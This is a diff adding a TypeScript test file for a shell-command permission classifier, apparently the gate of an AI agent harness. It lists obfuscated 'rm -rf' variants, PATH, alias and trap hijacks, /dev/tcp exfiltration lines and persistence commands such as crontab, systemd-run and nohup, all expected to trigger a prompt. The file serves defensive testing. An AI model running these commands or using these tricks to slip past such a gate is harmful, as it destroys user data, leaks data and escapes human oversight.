@@ -1,0 +1,150 @@
+import { readFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { classify } from './classify';
+import { shellCall, world } from './sample-calls.test-data';
+import { verdictUnder } from './verdict.test-data';
+
+const verdict = verdictUnder(
+  readFileSync(new URL('../policy/default-rules.toml', import.meta.url), 'utf8'),
+);
+const asks = (command: string): boolean => verdict(shellCall(command)) !== 'allow';
+const look = (command: string) => classify(shellCall(command), world);
+
+describe('the same command in another writing (P03)', () => {
+  it.each([
+    'r\\m -rf /home/op/b',
+    '"rm" -rf /home/op/b',
+    "'rm' -rf /home/op/b",
+    'r""m -rf /home/op/b',
+    "r'm' -rf /home/op/b",
+    "$'\\x72m' -rf /home/op/b",
+    "$'\\162\\155' -rf /home/op/b",
+    "$'\\u0072m' -rf /home/op/b",
+    '\\rm -rf /home/op/b',
+    'r\\\nm -rf /home/op/b',
+    '$"rm" -rf /home/op/b',
+    '/bin/rm -rf /home/op/b',
+    '/bin/../bin/rm -rf /home/op/b',
+    'rm${IFS}-rf${IFS}/home/op/b',
+    'rm -rf "/home/op"/b',
+    'rm -rf /home/o?/b',
+    '{rm,-rf,/home/op/b}',
+    'rm\t-rf\t/home/op/b',
+  ])('%j asks', (command) => expect(asks(command)).toBe(true));
+
+  it.each(['r\\m -rf b', '"rm" b', "$'\\x72m' b", "$'\\162m' b", '/bin/rm b', 'r\\\nm b'])(
+    '%j deletes',
+    (command) => expect(look(command).effects).toContain('deletes'),
+  );
+});
+
+describe('what is changed before a harmless command runs (P05)', () => {
+  it.each([
+    'PATH=/tmp/x ls',
+    'PATH=/tmp/x; ls',
+    'export PATH=/tmp/x:$PATH && ls',
+    'declare -x PATH=/tmp/x; ls',
+    'typeset -gx PATH=/tmp/x; ls',
+    'readonly PATH=/tmp/x; ls',
+    'printf -v PATH /tmp/x; ls',
+    'read PATH <<< /tmp/x; ls',
+    'for PATH in /tmp/x; do ls; done',
+    'unset PATH; ls',
+    'env PATH=/tmp/x ls',
+    'env -P /tmp/x ls',
+    'alias ls="rm -rf ~"; ls',
+    'shopt -s expand_aliases; alias ls=./x; ls',
+    'ls() { rm -rf ~; }; ls',
+    'function ls { rm -rf ~; }; ls',
+    'eval "ls() { rm -rf ~; }"; ls',
+    "trap 'rm -rf ~' EXIT; ls",
+    "trap 'rm -rf ~' DEBUG; ls",
+    'hash -p ./x ls; ls',
+    'enable -f ./x.so ls; ls',
+    'enable -n echo; echo a',
+    'BASH_ENV=./x bash -c ls',
+    "PROMPT_COMMAND='rm -rf ~' bash -i",
+    'IFS=/ ls',
+    'GIT_DIR=/tmp/x git status',
+    'GIT_CONFIG_COUNT=1 git status',
+    'set -o allexport; PATH=/tmp/x; ls',
+    'cd /tmp/x && ./ls',
+    'source ./env && ls',
+    '. ./env; ls',
+    'exec -a ls ./x',
+  ])('%j asks', (command) => expect(asks(command)).toBe(true));
+});
+
+describe('very much at once', () => {
+  it.each([51, 500, 50_000])('P06: %i commands with one that deletes are not let pass', (count) => {
+    const many = Array.from({ length: count - 1 }, () => 'ls');
+    for (const at of [0, count >> 1, count - 1]) {
+      const command = [...many.slice(0, at), 'rm -rf ~/b', ...many.slice(at)].join(';');
+      expect(asks(command)).toBe(true);
+    }
+  });
+
+  it.each([' && ', ' | ', '\n', ' & '])(
+    'P06: 50 000 commands joined by %j are asked about',
+    (by) => {
+      expect(asks(Array.from({ length: 50_000 }, () => 'ls').join(by))).toBe(true);
+    },
+  );
+
+  it('P07: a command of 10 001 characters asks, whatever is in it', () => {
+    const long = (length: number): string => `echo ${'a'.repeat(length - 5)}`;
+    expect(long(10_001)).toHaveLength(10_001);
+    expect(look(long(10_001)).uninspectable).not.toBeNull();
+    expect(asks(long(10_001))).toBe(true);
+    expect(asks(`ls ${' '.repeat(10_000)}`)).toBe(true);
+    expect(asks(`ls # ${'a'.repeat(10_000)}`)).toBe(true);
+  });
+});
+
+describe('sockets of the shell itself (P13)', () => {
+  it.each([
+    'echo a > /dev/tcp/192.0.2.1/80',
+    'cat < /dev/tcp/192.0.2.1/80',
+    'echo a > /dev/udp/192.0.2.1/53',
+    'exec 3<>/dev/tcp/192.0.2.1/80',
+    'exec 3<>/dev/tcp/192.0.2.1/80; cat <&3',
+    'cat a >& /dev/tcp/192.0.2.1/80',
+    'cat a &> /dev/tcp/192.0.2.1/80',
+    'cat </dev/tcp/$HOST/80',
+    'cat a > "/dev/tcp/192.0.2.1/80"',
+    'cat a > /dev/tc"p"/192.0.2.1/80',
+    'cat a > /dev//tcp/192.0.2.1/80',
+    '{ cat a; } > /dev/tcp/192.0.2.1/80',
+    'while read -r x; do echo "$x"; done < /dev/tcp/192.0.2.1/80',
+    'exec 3<> a',
+  ])('%j asks', (command) => expect(asks(command)).toBe(true));
+});
+
+describe('work that outlives its run (K04)', () => {
+  it.each([
+    'at now + 1 minute < a',
+    'echo ./x | at now',
+    'batch < a',
+    'crontab a',
+    'crontab -e',
+    '(crontab -l; echo "* * * * * ./x") | crontab -',
+    'systemd-run --user ./x',
+    'systemd-run --on-active=60 ./x',
+    'systemctl --user start x',
+    'systemctl --user enable --now x.timer',
+    'loginctl enable-linger',
+    'tmux new-session -d ./x',
+    'tmux send-keys -t 0 ./x Enter',
+    'screen -dmS a ./x',
+    'nohup ./x &',
+    'setsid ./x',
+    './x & disown',
+    'daemonize ./x',
+    'start-stop-daemon --start --exec ./x',
+    'busctl --user call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartUnit ss x replace',
+    'gdbus call --session --dest org.freedesktop.systemd1 --object-path / --method x',
+    'dbus-send --session --dest=org.freedesktop.systemd1 / x',
+    'docker run -d a',
+    'launchctl load a',
+  ])('%j asks', (command) => expect(asks(command)).toBe(true));
+});
